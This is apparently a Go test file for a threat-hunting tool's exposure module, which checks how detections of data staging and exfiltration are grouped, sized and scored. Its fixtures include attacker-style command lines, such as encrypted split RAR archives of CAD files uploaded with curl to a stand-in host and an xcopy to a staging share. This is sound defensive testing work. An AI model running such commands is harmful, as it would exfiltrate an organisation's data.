@@ -1,0 +1,268 @@
+package exposure
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/spoor-hunt/spoor/internal/result"
+)
+
+var t0 = time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC)
+
+// det is a detection of event id on host at t0+min with fields (name,
+// value pairs) by a rule of tactics.
+func det(host string, id int64, min int, tactics []string, kv ...string) result.Detection {
+	d := result.Detection{Computer: host + ".corp.local", EventID: id, Time: t0.Add(time.Duration(min) * time.Minute),
+		Rule: &result.Rule{ID: "r", Title: "r", Level: "high", Tactics: tactics}}
+	for i := 0; i+1 < len(kv); i += 2 {
+		d.Fields = append(d.Fields, result.Field{Name: kv[i], Value: kv[i+1]})
+	}
+	return d
+}
+
+func proc(host string, min int, image, line, cwd string) result.Detection {
+	return det(host, 1, min, nil, "Image", image, "CommandLine", line, "CurrentDirectory", cwd, "User", `CORP\eve`)
+}
+
+func file(host string, min int, image, path string) result.Detection {
+	return det(host, 11, min, nil, "Image", image, "TargetFilename", path)
+}
+
+// annotate runs Annotate over one operation of all dets.
+func annotate(t *testing.T, jewels *Jewels, dets ...result.Detection) (*result.Operation, *result.Exposure) {
+	t.Helper()
+	op := result.Operation{ID: "op", Severity: "medium", Score: 5}
+	for i := range dets {
+		op.Detections = append(op.Detections, i)
+	}
+	ops := []result.Operation{op}
+	Annotate(ops, dets, jewels)
+	if ops[0].Exposure == nil {
+		t.Fatal("no exposure")
+	}
+	return &ops[0], ops[0].Exposure
+}
+
+func find(e *result.Exposure, kind, tool string) *result.ExposureItem {
+	for i := range e.Items {
+		if e.Items[i].Kind == kind && e.Items[i].Tool == tool {
+			return &e.Items[i]
+		}
+	}
+	return nil
+}
+
+// A RAR of CAD drawings named by a wildcard relative to the working
+// folder, split into 100 MiB volumes with a password, then uploaded with
+// curl's globbing and seen leaving: strong at each step, the size bounded
+// by the volumes.
+func TestSplitVolumesUploaded(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("FS03", 0, `C:\PerfLogs\r.exe`, `r.exe a -r -hpX -v100m C:\PerfLogs\e.rar *.dwg`, `D:\Shares\Engineering\CAD\`),
+		file("FS03", 2, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part01.rar`),
+		file("FS03", 3, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part02.rar`),
+		file("FS03", 4, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part03.rar`),
+		file("FS03", 5, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part04.rar`),
+		proc("FS03", 9, `C:\Windows\System32\curl.exe`, `curl -T "e.part[01-04].rar" https://files.example.net/u/`, `C:\PerfLogs\`),
+		det("FS03", 3, 9, []string{"exfiltration"}, "Image", `C:\Windows\System32\curl.exe`, "DestinationHostname", "files.example.net", "DestinationPort", "443", "Initiated", "true"),
+	)
+	st := find(e, result.ExposureStaged, "rar")
+	if st == nil {
+		t.Fatalf("no rar item in %+v", e.Items)
+	}
+	if want := []string{`D:\Shares\Engineering\CAD\*.dwg`}; !slices.Equal(st.Sources, want) {
+		t.Errorf("sources %q, want %q (resolved against the working folder)", st.Sources, want)
+	}
+	if !st.Password || !st.HeadersEncrypted || !st.Recursive || st.VolumeSize != 100<<20 || st.Volumes != 4 {
+		t.Errorf("rar item %+v: want password, headers, recursion, 4 volumes of 100 MiB", st)
+	}
+	if st.SizeMin != 300<<20+1 || st.SizeMax != 400<<20 {
+		t.Errorf("size [%d, %d], want (300 MiB, 400 MiB]", st.SizeMin, st.SizeMax)
+	}
+	if st.Strength != "strong" || !slices.Contains(st.Valuable, "CAD drawings (inferred)") {
+		t.Errorf("rar item strength %s valuable %q, want strong and inferred CAD drawings", st.Strength, st.Valuable)
+	}
+	up := find(e, result.ExposureExfiltrated, "curl")
+	if up == nil || len(up.Sources) != 4 || up.Sources[3] != `C:\PerfLogs\e.part04.rar` {
+		t.Fatalf("curl item %+v: want the 4 volumes by absolute path", up)
+	}
+	if up.Strength != "strong" || up.Volumes != 4 || up.SizeMax != 400<<20 || !strings.Contains(up.SizeNote, "more than 300 MiB") {
+		t.Errorf("curl item strength %s volumes %d size %d note %q", up.Strength, up.Volumes, up.SizeMax, up.SizeNote)
+	}
+	if !slices.Contains(up.Valuable, "CAD drawings (inferred)") {
+		t.Errorf("the upload does not carry the archive's valuable labels: %q", up.Valuable)
+	}
+	if !slices.Equal(e.Destinations, []string{"files.example.net"}) {
+		t.Errorf("destinations %q", e.Destinations)
+	}
+	if len(e.Items) != 3 {
+		t.Errorf("%d items, want rar, curl and the connection", len(e.Items))
+	}
+}
+
+// An archive written with no command seen, that a staging rule flagged,
+// is weak: unknown content. One that no staging rule flagged (a download)
+// is not exposure.
+func TestArchiveOfUnknownContent(t *testing.T) {
+	_, e := annotate(t, nil, det("WS1", 11, 0, []string{"collection"}, "Image", `C:\Users\x\t.exe`, "TargetFilename", `C:\Users\Public\o.7z`))
+	if len(e.Items) != 1 || e.Items[0].Kind != result.ExposureStaged || e.Items[0].Strength != "weak" {
+		t.Errorf("items %+v, want one weak staged item", e.Items)
+	}
+	ops := []result.Operation{{ID: "op", Detections: []int{0}}}
+	Annotate(ops, []result.Detection{file("WS1", 0, `C:\Windows\System32\svchost.exe`, `C:\Users\x\AppData\Local\Temp\i.7z`)}, nil)
+	if ops[0].Exposure != nil {
+		t.Errorf("a download's archive is exposure: %+v", ops[0].Exposure.Items)
+	}
+}
+
+// Security 5145 of named pipes, of programs written to a share, and of
+// accesses that read no data are not exposure.
+func TestShareAccessNotData(t *testing.T) {
+	ops := []result.Operation{{ID: "op", Detections: []int{0, 1, 2}}}
+	dets := []result.Detection{
+		det("FS03", 5145, 0, nil, "ShareName", `\\*\IPC$`, "RelativeTargetName", "svcctl", "AccessMask", "0x12019f"),
+		det("FS03", 5145, 0, nil, "ShareName", `\\*\ADMIN$`, "RelativeTargetName", `System32\svc.exe`, "AccessMask", "0x17019f"),
+		det("FS03", 5145, 0, nil, "ShareName", `\\*\C$`, "RelativeTargetName", `Users\x.txt`, "AccessMask", "0x2"),
+	}
+	Annotate(ops, dets, nil)
+	if ops[0].Exposure != nil {
+		t.Errorf("got %+v", ops[0].Exposure.Items)
+	}
+}
+
+// The Sysmon and Security records of one process creation, and the shell
+// that ran it, are one item with all their detections.
+func TestOneItemPerAction(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd.exe /c 7z a -pX C:\t\o.7z D:\src\`, `C:\`),
+		proc("WS1", 0, `C:\Program Files\7-Zip\7z.exe`, `7z  a -pX C:\t\o.7z D:\src\`, `C:\`),
+		det("WS1", 4688, 0, nil, "NewProcessName", `C:\Program Files\7-Zip\7z.exe`, "CommandLine", `7z  a -pX C:\t\o.7z D:\src\`, "SubjectUserName", "eve", "SubjectDomainName", "CORP"),
+	)
+	if len(e.Items) != 1 || len(e.Items[0].Detections) != 3 || e.Items[0].Process != `C:\Program Files\7-Zip\7z.exe` {
+		t.Errorf("items %+v, want one with 3 detections and the tool's image", e.Items)
+	}
+}
+
+// cd in the shell line moves the working folder of the commands after it.
+func TestShellChangesFolder(t *testing.T) {
+	_, e := annotate(t, nil, proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd /c cd /d D:\src && tar -cf ..\o.tar app`, `C:\`))
+	if len(e.Items) != 1 || e.Items[0].Destination != `D:\o.tar` || !slices.Equal(e.Items[0].Sources, []string{`D:\src\app`}) {
+		t.Errorf("items %+v, want tar of D:\\src\\app into D:\\o.tar", e.Items)
+	}
+}
+
+// Security 5145: files of a share opened over the network, one item per
+// share, account and client.
+func TestShareAccess(t *testing.T) {
+	a := det("FS03", 5145, 0, nil, "SubjectUserName", "eve", "SubjectDomainName", "CORP", "ShareName", `\\*\Engineering`, "RelativeTargetName", `CAD\a.dwg`, "IpAddress", "10.0.0.9")
+	b := det("FS03", 5145, 1, nil, "SubjectUserName", "eve", "SubjectDomainName", "CORP", "ShareName", `\\*\Engineering`, "RelativeTargetName", `CAD\b.dwg`, "IpAddress", "10.0.0.9")
+	jewels, err := ParseJewels("j.txt", []byte("# valuable\n\\\\FS03\\Engineering | Engineering share\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	op, e := annotate(t, jewels, a, b)
+	if len(e.Items) != 1 || e.Items[0].Tool != "share access" || len(e.Items[0].Detections) != 2 || e.Items[0].Sources[0] != `\\FS03\Engineering\CAD\a.dwg` {
+		t.Fatalf("items %+v", e.Items)
+	}
+	if !slices.Equal(e.CrownJewels, []string{"Engineering share"}) || e.Inferred {
+		t.Errorf("crown jewels %q inferred %v", e.CrownJewels, e.Inferred)
+	}
+	if op.Severity != "high" || op.Score != 7 || e.Raised == "" {
+		t.Errorf("severity %s score %v raised %q, want high, 7 and why", op.Severity, op.Score, e.Raised)
+	}
+}
+
+// A crown-jewels glob marks a wildcard source under it; data elsewhere is
+// not marked, and nothing is inferred once a file is given.
+func TestCrownJewelsGlob(t *testing.T) {
+	jewels, err := ParseJewels("j.yml", []byte("- path: 'D:\\Shares\\Engineering\\CAD\\**'\n  label: CAD\n- host: FS09\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	op, e := annotate(t, jewels,
+		proc("FS03", 0, `C:\x\rar.exe`, `rar a -pX C:\t\a.rar D:\Shares\Engineering\CAD\*.dwg`, ``),
+		proc("FS03", 1, `C:\x\rar.exe`, `rar a -pX C:\t\b.rar D:\Shares\HR\*.xlsx`, ``),
+	)
+	if !slices.Equal(e.Items[0].Valuable, []string{"CAD"}) || len(e.Items[1].Valuable) != 0 {
+		t.Errorf("valuable %q and %q, want [CAD] and none", e.Items[0].Valuable, e.Items[1].Valuable)
+	}
+	if op.Severity != "high" {
+		t.Errorf("severity %s, want high", op.Severity)
+	}
+}
+
+func TestParseJewelsErrors(t *testing.T) {
+	for _, tc := range []struct{ name, data string }{
+		{"j.yml", "- path: a\n  host: b\n"},
+		{"j.yml", "- pth: a\n"},
+		{"j.yml", "- path: ' '\n  host: b\n- path: ' '\n"},
+		{"j.txt", "# only comments\n"},
+		{"j.txt", "| label\n"},
+	} {
+		if _, err := ParseJewels(tc.name, []byte(tc.data)); err == nil || !strings.Contains(err.Error(), tc.name) {
+			t.Errorf("ParseJewels(%s, %q) = %v, want an error naming the file", tc.name, tc.data, err)
+		}
+	}
+}
+
+// No data movement: no exposure, and the operation is unchanged.
+func TestNoExposure(t *testing.T) {
+	ops := []result.Operation{{ID: "op", Severity: "high", Score: 4, Detections: []int{0}}}
+	dets := []result.Detection{proc("WS1", 0, `C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\`)}
+	Annotate(ops, dets, nil)
+	if ops[0].Exposure != nil || ops[0].Severity != "high" || ops[0].Score != 4 {
+		t.Errorf("got %+v", ops[0])
+	}
+}
+
+// An operation of many data movements keeps maxItems of them and says how
+// many more there were, in bounded time.
+func TestManyItems(t *testing.T) {
+	var dets []result.Detection
+	for i := range maxItems + 50 {
+		dets = append(dets, proc("WS1", i, `C:\Windows\System32\cmd.exe`, fmt.Sprintf(`cmd /c copy \\fs\s\f%d.docx C:\t\`, i), `C:\`))
+	}
+	_, e := annotate(t, nil, dets...)
+	if len(e.Items) != maxItems || !strings.Contains(e.Summary, "50 more data movements not kept") {
+		t.Errorf("%d items, summary %q", len(e.Items), e.Summary)
+	}
+}
+
+// A wildcard source resolves to the files the operation wrote on its host
+// before the command, and links the copy to the archive that wrote them.
+func TestWildcardResolvedAgainstFileEvents(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("FS03", 0, `C:\x\7z.exe`, `7z a -v1g -pX C:\PerfLogs\e.7z D:\Shares\Src\`, `C:\`),
+		file("FS03", 1, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.001`),
+		file("FS03", 2, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.002`),
+		file("FS03", 3, `C:\Windows\System32\notepad.exe`, `C:\PerfLogs\notes.txt`),
+		proc("FS03", 5, `C:\Windows\System32\xcopy.exe`, `xcopy e.7z.* \\STAGE01\drop\ /y`, `C:\PerfLogs\`),
+	)
+	cp := find(e, result.ExposureCollected, "xcopy")
+	if cp == nil {
+		t.Fatalf("no xcopy item in %+v", e.Items)
+	}
+	if want := []string{`C:\PerfLogs\e.7z.001`, `C:\PerfLogs\e.7z.002`}; !slices.Equal(cp.Files, want) {
+		t.Errorf("files %q, want %q", cp.Files, want)
+	}
+	if cp.Volumes != 2 || cp.SizeMin != 1<<30+1 || cp.SizeMax != 2<<30 || cp.Strength != "strong" {
+		t.Errorf("xcopy item %+v: want 2 volumes of 1 GiB, (1 GiB, 2 GiB], strong", cp)
+	}
+}
+
+// A connection whose log gives the bytes sent is an exfiltration of that
+// size when it is large; a small one to an ordinary host is nothing.
+func TestLargeTransfer(t *testing.T) {
+	_, e := annotate(t, nil, det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "DestinationPort", "443", "SentBytes", "734003200"))
+	if len(e.Items) != 1 || e.Items[0].SizeMin != 734003200 || e.Items[0].Strength != "medium" || e.Items[0].Destination != "203.0.113.9:443" {
+		t.Errorf("items %+v", e.Items)
+	}
+	ops := []result.Operation{{ID: "op", Detections: []int{0}}}
+	Annotate(ops, []result.Detection{det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "SentBytes", "5000")}, nil)
+	if ops[0].Exposure != nil {
+		t.Errorf("a small transfer is exposure: %+v", ops[0].Exposure.Items)
+	}
+}
